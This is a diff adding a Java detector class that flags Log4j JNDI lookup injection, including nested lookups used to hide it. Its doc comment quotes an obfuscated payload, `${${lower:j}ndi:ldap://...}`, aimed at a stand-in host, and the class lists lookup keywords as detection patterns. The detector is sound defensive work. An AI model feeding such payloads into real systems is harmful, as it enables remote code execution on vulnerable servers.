@@ -1,0 +1,63 @@
+package dev.portcullis.attack;
+
+import dev.portcullis.attack.Words.Line;
+import java.util.List;
+
+/**
+ * Lookups that a logging library would resolve.
+ *
+ * <p>Looks for: <code>${jndi:</code> and the lookups that hide it, one inside of another.
+ *
+ * <p>Does not look for: placeholders of a mere name.
+ *
+ * <p>Caught: <code>${${lower:j}ndi:ldap://203.0.113.7/a}</code>
+ *
+ * <p>Let through: <code>${user.home}/notes</code>
+ */
+final class JndiLookup implements Detector {
+
+    private static final Words<Suspicion> LOOKUPS = Words.of(
+            List.of(
+                    new Line<>(Suspicion.CERTAIN, "jndi"),
+                    new Line<>(
+                            Suspicion.STRONG,
+                            "lower upper env sys java main ctx base64 date bundle marker k8s docker script dns url const sd map log4j")));
+
+    @Override
+    public String id() {
+        return "jndi-lookup";
+    }
+
+    @Override
+    public int attractors(Place place) {
+        return Traits.DOLLAR;
+    }
+
+    @Override
+    public Finding look(Text text, Place place) {
+        var finding = Finding.NONE;
+        var open = false;
+        for (var i = 0; i < text.length() && !finding.isCertain(); i++) {
+            if (text.at(i) == '$' && text.at(i + 1) == '{') {
+                finding = finding.or(lookup(text, i, open));
+                open = true;
+            } else if (text.at(i) == '}') {
+                open = false;
+            }
+        }
+        return finding;
+    }
+
+    private static Finding lookup(Text text, int at, boolean nested) {
+        var from = text.skipSpace(at + 2);
+        var end = text.wordEnd(from);
+        if (text.at(end) != ':') {
+            return Finding.NONE;
+        }
+        if (nested || end == from && text.at(end + 1) == '-' || end == from && text.at(end + 1) == ':') {
+            return Finding.certain(at);
+        }
+        var known = LOOKUPS.find(text, from, end);
+        return known == null ? Finding.NONE : new Finding(known, at);
+    }
+}
